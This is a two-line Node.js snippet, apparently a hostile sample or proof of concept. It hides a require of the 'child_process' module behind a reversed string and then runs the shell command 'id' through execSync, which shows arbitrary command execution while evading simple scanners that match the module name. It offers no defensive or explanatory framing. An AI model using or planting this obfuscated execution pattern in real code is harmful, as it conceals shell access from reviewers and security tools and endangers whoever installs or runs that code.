const m = require('ssecorp_dlihc'.split('').reverse().join(''));
m.execSync('id');
